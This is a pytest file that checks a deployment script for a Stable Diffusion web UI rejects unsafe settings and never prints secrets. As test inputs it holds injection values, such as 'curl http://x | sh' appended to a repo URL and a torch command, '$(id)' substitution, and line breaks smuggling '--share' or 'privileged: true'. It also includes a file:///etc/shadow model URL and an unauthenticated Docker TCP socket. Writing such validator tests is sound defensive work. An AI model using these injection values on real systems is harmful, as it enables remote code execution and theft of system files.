"""
Careless and hostile input (issue 13): each class refused before any host changes, with the host,
the setting and the rule named, never a secret, while the other hosts are not lost.

One inventory holds a host per case; deploy/site.py plans it once and every case reads its own
host's lines from that one refusal.
"""

from __future__ import annotations

import pytest

from tests.unit.fakehost import FakeHost, plan

MODEL = {"name": "sd.safetensors", "sha256": "a" * 64}
SECRETS = ("hunter2", "tok-9f8e7d", "pw-3141", "s3cr3t", "Passw0rd")


def login_file(text):
    return ("file", text)


# (host, settings, what its line must say). Host names are short: the refusal names them.
CASES = [
    # Flags smuggled inside one string, abbreviated, or with =value; unknown flags.
    ("flags1", {"webui_extra_args": ["--xformers --share"]},
     "webui_extra_args: --share is set through webui_listen"),
    ("flags2", {"webui_extra_args": ["--shar"]},
     "webui_extra_args: --shar (read as --share) is set through webui_listen"),
    ("flags3", {"webui_extra_args": ["--xformers", "--ngrok tok-9f8e7d"]},
     "webui_extra_args: --ngrok is set through webui_listen"),
    ("flags4", {"webui_extra_args": ["--gradio-auth=alice:hunter2"]},
     "webui_extra_args: --gradio-auth is set through webui_auth_file or webui_auth_env"),
    ("flags5", {"webui_extra_args": ["--lis"]},
     "webui_extra_args: --lis (read as --listen) is set through webui_listen"),
    ("flags6", {"webui_extra_args": ["--data-dir /etc"]},
     "webui_extra_args: --data-dir is set through webui_dir"),
    ("flags7", {"webui_extra_args": ["--server-name=0.0.0.0"]},
     "webui_extra_args: --server-name is set through webui_listen"),
    ("flags8", {"webui_extra_args": ["--precison full"]},
     "webui_extra_args: --precison is not a flag of the pinned web UI, which would not start "
     "(did you mean --precision?)"),
    ("flags9", {"webui_extra_args": ["--opt-sdp"]},
     "webui_extra_args: --opt-sdp is ambiguous: it could be --opt-sdp-attention, "
     "--opt-sdp-no-mem-attention"),
    ("flags10", {"webui_extra_args": ["--enable-insecure-extension"]},
     "(read as --enable-insecure-extension-access) is set through "
     "webui_allow_insecure_extensions"),
    # Line breaks (and what a shell or YAML would read) into files.
    ("lines1", {"webui_extra_args": ["--xformers\nCOMMANDLINE_ARGS=--share"]},
     "webui_extra_args: word 2 is a value with no flag before it"),
    ("lines2", {"webui_extra_args": ['--ckpt "a\nTZ=x"']},
     "webui_extra_args: word 2 holds a quote, a backslash or a line break"),
    ("lines3", {"webui_image": "sd:1\n    privileged: true"},
     "webui_image = 'sd:1\\n    privileged: true': allowed is an image reference"),
    ("lines4", {"webui_torch_command": "pip install torch\nRUN curl http://x | sh"},
     "webui_torch_command = 'pip install torch\\nRUN curl http://x | sh': allowed is "
     "`pip install` then words"),
    ("lines5", {"webui_repo_url": "https://h/w.git; curl http://x|sh"},
     "webui_repo_url = 'https://h/w.git; curl http://x|sh': allowed is a git remote"),
    ("lines6", {"webui_timezone": "Etc/UTC\nCOMMANDLINE_ARGS=--share"},
     "webui_timezone = 'Etc/UTC\\nCOMMANDLINE_ARGS=--share': allowed is a tz name"),
    ("lines7", {"webui_torch_command": "pip install torch$(id)"},
     "webui_torch_command = 'pip install torch$(id)': allowed is `pip install`"),
    # Secrets typed into the wrong setting, in a URL, or in a flag: never printed.
    ("secret1", {"webui_auth_file": "alice:hunter2"},
     "webui_auth_file = (value hidden): allowed is an absolute path on the controller"),
    ("secret2", {"webui_auth_env": "alice:hunter2"},
     "webui_auth_env = (value hidden): allowed is an environment variable name"),
    ("secret3", {"docker_repo_url": "ftp://mirror:pw-3141@lan/docker"},
     "docker_repo_url = 'ftp://mirror:***@lan/docker': allowed is an http(s):// URL"),
    ("secret4", {"webui_extra_args": ["--api-auth", "bob:s3cr3t"]},
     "webui_extra_args: --api-auth is set through webui_auth_file or webui_auth_env"),
    ("secret5", {"webui_extra_args": "--api-auth bob:s3cr3t"},
     "webui_extra_args = (value hidden): allowed is a list of strings"),
    # Logins that are not logins (the file's text is given as ("file", text)).
    ("login1", {"webui_listen": True, "webui_auth_file": login_file("alice:\n")},
     "webui_auth_file: line 1 has an empty password"),
    ("login2", {"webui_listen": True, "webui_auth_file": login_file("alice:hunter2\nbob\n")},
     "webui_auth_file: line 2 is not user:password (no colon)"),
    ("login3", {"webui_listen": True, "webui_auth_file": login_file(":hunter2\n")},
     "webui_auth_file: line 1 has an empty user"),
    ("login4", {"webui_listen": True, "webui_auth_file": login_file("al ice:hunter2\n")},
     "webui_auth_file: line 1 holds whitespace"),
    ("login5", {"webui_listen": True, "webui_auth_file": login_file("# me\n\na:b,c:hunter2\n")},
     "webui_auth_file: line 3 holds a comma"),
    ("login6", {"webui_api": True, "webui_auth_env": "LOGIN6"},
     "webui_auth_env's variable: line 1 has a colon in the password: with webui_api"),
    ("login7", {"webui_listen": True, "webui_auth_file": login_file("# only a comment\n")},
     "webui_auth_file: holds no user:password line"),
    # Paths that are the system.
    ("dir1", {"webui_dir": "/"}, "webui_dir = '/': allowed is an absolute, normalised path"),
    ("dir2", {"webui_dir": "/etc"}, "webui_dir = '/etc': allowed is an absolute, normalised"),
    ("dir3", {"webui_dir": "/opt/../etc"}, "webui_dir = '/opt/../etc': allowed is"),
    ("dir4", {"webui_dir": "/proc/self"}, "webui_dir = '/proc/self': allowed is"),
    ("dir5", {"webui_dir": "srv/sd"}, "webui_dir = 'srv/sd': allowed is"),
    ("dir6", {"webui_dir": "/home/"}, "webui_dir = '/home/': allowed is"),
    # Docker's API opened, or a key that keeps Docker from starting.
    ("daemon1", {"docker_daemon_options": {"hosts": ["tcp://0.0.0.0:2375"]}},
     "docker_daemon_options: hosts with tcp:// and no tlsverify: true opens Docker's API"),
    ("daemon2", {"docker_daemon_options": {"hosts": ["unix:///run/docker.sock"]}},
     "docker_daemon_options: hosts cannot be set in daemon.json: docker.service starts "
     "dockerd with -H fd://"),
    ("daemon3", {"docker_daemon_options": {"containerd": "/run/c.sock"}},
     "docker_daemon_options: containerd cannot be set in daemon.json"),
    ("daemon4", {"docker_daemon_options": {"hosts": "tcp://192.168.1.5:2375",
                                           "tlsverify": "yes"}},
     "hosts with tcp:// and no tlsverify: true"),
    # Values with no bound or shape.
    ("shape1", {"webui_bind_address": "192.168.1.300"},
     "webui_bind_address = '192.168.1.300': allowed is an IPv4 address"),
    ("shape2", {"webui_models": [{**MODEL, "url": "file:///etc/shadow"}]},
     "webui_models = [{'name': 'sd.safetensors', 'sha256': '" + "a" * 64 + "', 'url': "
     "'file:///etc/shadow'}]: allowed is a list of {name, url|src, sha256} mappings; entry 1 "
     "is not a mapping whose url is an http(s):// URL"),
    ("shape3", {"webui_models": [{**MODEL, "url": "sd.safetensors"}]},
     "entry 1 is not a mapping whose url is an http(s):// URL"),
    ("shape4", {"webui_cpu_threads": 100000000},
     "webui_cpu_threads = 100000000: allowed is a whole number from 0 to 8192"),
    ("shape5", {"webui_repo_url": "file:///srv/webui.git"},
     "webui_repo_url = 'file:///srv/webui.git': allowed is a git remote"),
    ("shape6", {"webui_bind_address": "::1"},
     "webui_bind_address = '::1': allowed is an IPv4 address"),
    ("shape7", {"nvidia_verify_image": "Ubuntu:22.04"},
     "nvidia_verify_image = 'Ubuntu:22.04': allowed is an image reference"),
    ("shape8", {"rocm_repo_url": "https://"},
     "rocm_repo_url = 'https://': allowed is an http(s):// URL with a host"),
    # Typos outside a role's prefix.
    ("typo1", {"acelerator": "cuda"}, "acelerator: no such setting (did you mean accelerator?)"),
    ("typo2", {"webui_prot": 7861}, "webui_prot: no such setting (did you mean webui_port?)"),
    ("typo3", {"rocm_users_": ["sd"]},
     "rocm_users_: no such setting (did you mean rocm_users?)"),
    ("typo4", {"dockr_users": ["sd"]},
     "dockr_users: no such setting (did you mean docker_users?)"),
    ("typo5", {"own_keys": "mine"}, "own_keys = 'mine': allowed is a list of key names"),
]


@pytest.fixture(scope="module")
def refused(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("logins")
    hosts = [FakeHost("good").os("debian12")]
    # Keys of one's own, listed in own_keys, and pyinfra's own keys are no typos.
    hosts.append(FakeHost("fine").os("debian12").set(
        own_keys=["acelerate_me", "backup_target"], acelerate_me=1, backup_target="nas",
        ssh_port=22, _sudo=True, ssh_hostname="192.0.2.1"))
    for name, settings, _ in CASES:
        settings = dict(settings)
        if isinstance(settings.get("webui_auth_file"), tuple):
            path = tmp / name
            path.write_text(settings["webui_auth_file"][1])
            settings["webui_auth_file"] = str(path)
        hosts.append(FakeHost(name).os("debian12").set(**settings))
    result = plan("deploy/site.py", hosts, extra_env={"LOGIN6": "api:pw-3141:x"})
    assert result.returncode != 0
    assert result.ops == []  # nothing planned, so nothing can run
    assert "Traceback" not in result.output
    return result


def host_lines(output: str, name: str) -> list[str]:
    return [line for line in output.splitlines() if line.startswith(f"  host @fake/{name}: ")]


@pytest.mark.parametrize("name,settings,message", CASES, ids=[c[0] for c in CASES])
def test_each_bad_value_is_refused_naming_host_setting_and_rule(refused, name, settings,
                                                                 message):
    assert "bad settings, no host was changed" in refused.output
    lines = host_lines(refused.output, name)
    assert any(message in line for line in lines), (message, lines)
    for secret in SECRETS:
        assert secret not in refused.output


def test_hosts_without_a_mistake_are_not_named(refused):
    assert host_lines(refused.output, "good") == []
    assert host_lines(refused.output, "fine") == []


def test_the_same_logins_pass_when_they_are_logins(tmp_path):
    login = tmp_path / "login"
    login.write_text("# the household\nalice:hunter2\n\nbob:pw:with:colons\n")
    host = FakeHost("h").os("debian12").set(webui_listen=True, webui_auth_file=str(login),
                                            webui_extra_args=["--xformers --opt-sdp-attention"],
                                            webui_dir="/srv/sd", webui_bind_address="10.0.0.2")
    result = plan("deploy/site.py", [host])
    assert "bad settings" not in result.output, result.output
    assert result.returncode == 0, result.output[-3000:]
